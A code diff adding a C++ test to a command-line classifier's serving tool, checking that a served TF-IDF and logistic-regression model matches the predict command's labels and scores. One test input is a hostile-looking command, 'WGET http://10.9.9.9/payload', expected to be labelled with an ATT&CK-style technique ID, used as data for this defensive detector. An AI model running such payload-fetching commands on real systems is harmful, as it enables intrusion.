@@ -531,6 +531,33 @@ TEST_F(PredictServe, ServeAppliesTheCalibrationTemperatureLikePredict) {
   EXPECT_EQ(serve.stop(/*seconds=*/10), 0);
 }
 
+// The classic model kinds' exports (here TF-IDF + logistic regression) are served like any other.
+TEST_F(PredictServe, ServeAnswersWithATfidfLogregExportLikePredict) {
+  const fs::path model = attune::testing::write_tiny_tfidf_classifier("serve-tfidf");
+  ServeProcess serve;
+  ASSERT_TRUE(serve.start({}, model)) << "serve did not print its port";
+  auto c = client(serve.port);
+  auto res = c.Post("/api", json{{"texts", {"WGET http://10.9.9.9/payload", "ls -la /srv"}}}.dump(),
+                    "application/json");
+  ASSERT_TRUE(res);
+  ASSERT_EQ(res->status, 200) << res->body;
+  const auto answers = json::parse(res->body);
+  ASSERT_EQ(answers.size(), 2u);
+  EXPECT_EQ(answers[0]["label"], "T1003.002") << res->body;  // lower-cased as recorded
+  EXPECT_EQ(answers[1]["label"], "Benign") << res->body;
+  const Result reference = run_tool("predict", "--model " + quote(model.string()) +
+                                                   " --threads 1 --format json --fp32 --text "
+                                                   "'WGET http://10.9.9.9/payload' --text 'ls -la /srv'");
+  ASSERT_EQ(reference.code, 0) << reference.err;
+  const auto expected = json_lines(reference.out);
+  ASSERT_EQ(expected.size(), 2u);
+  for (size_t i = 0; i < 2; ++i) {
+    EXPECT_EQ(answers[i]["label"], expected[i]["label"]);
+    EXPECT_NEAR(answers[i]["score"].get<double>(), expected[i]["score"].get<double>(), 1e-6);
+  }
+  EXPECT_EQ(serve.stop(), 0);
+}
+
 TEST_F(PredictServe, ServeBadModelDirExitsTwo) {
   const Result r = run_tool("serve", "--model /nonexistent/model --port 0");
   EXPECT_EQ(r.code, 2);
